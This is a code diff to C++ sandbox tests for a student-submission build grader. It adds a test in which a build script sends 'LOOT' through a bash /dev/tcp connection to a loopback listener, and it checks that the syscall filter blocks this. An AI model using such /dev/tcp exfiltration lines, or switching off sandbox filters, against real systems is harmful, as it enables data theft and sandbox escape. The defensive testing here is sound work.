@@ -1,15 +1,21 @@
 // Building a submission handed in as sources, in each sandbox tier this machine has: a C++
 // compiler built by its Makefile, a build that fails (its log and reason reach the student), a
-// build that makes no student-uirc, and a build that tries to copy a file only the grader can read
-// into what is graded (shown working without a sandbox first).
+// build that makes no student-uirc, a build that tries to reach the network (shown reaching it
+// without the syscall filter first), and a build that tries to copy a file only the grader can
+// read into what is graded (shown working without a sandbox first).
 #include "grader/submission_build.h"
 
+#include <netinet/in.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <unistd.h>
 
 #include <filesystem>
 #include <fstream>
+#include <functional>
 #include <string>
 
+#include <fmt/format.h>
 #include <gtest/gtest.h>
 
 #include "grader/shell_testing.h"
@@ -18,6 +24,19 @@ namespace uirgrade {
 namespace {
 
 namespace fs = std::filesystem;
+
+/// A runner that changes each request before `inner` runs it (a shorter limit, a weakened filter).
+struct AdjustedRunner : CommandRunner {
+  CommandRunner& inner;
+  std::function<void(ProcessRequest&)> adjust;
+  AdjustedRunner(CommandRunner& runner, std::function<void(ProcessRequest&)> change)
+      : inner(runner), adjust(std::move(change)) {}
+  ProcessResult run(const ProcessRequest& request) override {
+    ProcessRequest changed = request;
+    adjust(changed);
+    return inner.run(changed);
+  }
+};
 
 class SubmissionBuild : public testing::TestWithParam<std::string> {
  protected:
@@ -82,15 +101,7 @@ TEST_P(SubmissionBuild, ABuildThatNeverEndsIsStopped) {
   write("build.sh", "touch student-uirc; sleep 100000 & wait\n");
   // The real limit is minutes; the outcome's wording is what is checked here, with a run cut short.
   ProcessRunner runner(tier());
-  struct ShortLimits : CommandRunner {
-    CommandRunner& inner;
-    explicit ShortLimits(CommandRunner& inner) : inner(inner) {}
-    ProcessResult run(const ProcessRequest& request) override {
-      ProcessRequest shorter = request;
-      shorter.limits.wall_seconds = 1;
-      return inner.run(shorter);
-    }
-  } short_runner(runner);
+  AdjustedRunner short_runner(runner, [](ProcessRequest& request) { request.limits.wall_seconds = 1; });
   BuildOutcome built = build_submission(dir_.string(), short_runner);
   ASSERT_EQ(built.status, BuildOutcome::Status::Failed) << built.message;
   EXPECT_NE(built.message.find("the build did not finish within"), std::string::npos) << built.message;
@@ -112,6 +123,41 @@ TEST_P(SubmissionBuild, ABuildCannotCopyTheGradersFilesIntoWhatIsGraded) {
   EXPECT_EQ(built.log.find("GRADER-SECRET"), std::string::npos);
   EXPECT_FALSE(built.built);
   fs::remove_all(secret_dir);
+}
+
+// In the uid tier the build shares the container's network: what keeps it from the grader's host
+// and the internet is the syscall filter (sandbox/syscall_filter.h). A listener of the test's on
+// 127.0.0.1 stands for them. (The namespaces tier adds a network namespace of its own.)
+TEST_P(SubmissionBuild, ABuildReachesNoNetwork) {
+  int listener = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+  ASSERT_GE(listener, 0);
+  sockaddr_in address{};
+  address.sin_family = AF_INET;
+  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  socklen_t size = sizeof address;
+  ASSERT_EQ(bind(listener, reinterpret_cast<sockaddr*>(&address), size), 0);
+  ASSERT_EQ(listen(listener, 4), 0);
+  ASSERT_EQ(getsockname(listener, reinterpret_cast<sockaddr*>(&address), &size), 0);
+  write("build.sh", fmt::format("bash -c 'echo LOOT >/dev/tcp/127.0.0.1/{}' && echo CONNECTED\n"
+                                "printf '#!/bin/sh\\n' > student-uirc\nchmod +x student-uirc\n",
+                                ntohs(address.sin_port)));
+  auto connections = [&] {
+    int count = 0;
+    for (int fd; (fd = accept(listener, nullptr, nullptr)) >= 0; ++count) close(fd);
+    return count;
+  };
+  ProcessRunner runner(tier());
+  if (tier() == Tier::Uid) {
+    AdjustedRunner unfiltered(runner, [](ProcessRequest& request) { request.weakened_no_syscall_filter = true; });
+    BuildOutcome weak = build_submission(dir_.string(), unfiltered);
+    EXPECT_NE(weak.log.find("CONNECTED"), std::string::npos) << weak.message << weak.log;
+    EXPECT_EQ(connections(), 1) << "without the filter the build reaches the listener";
+  }
+  BuildOutcome built = build_submission(dir_.string(), runner);
+  ASSERT_EQ(built.status, BuildOutcome::Status::Built) << built.message << built.log;
+  EXPECT_EQ(built.log.find("CONNECTED"), std::string::npos) << built.log;
+  EXPECT_EQ(connections(), 0);
+  close(listener);
 }
 
 TEST(SubmissionBuildRecipe, BuildShComesFirstThenMakefiles) {
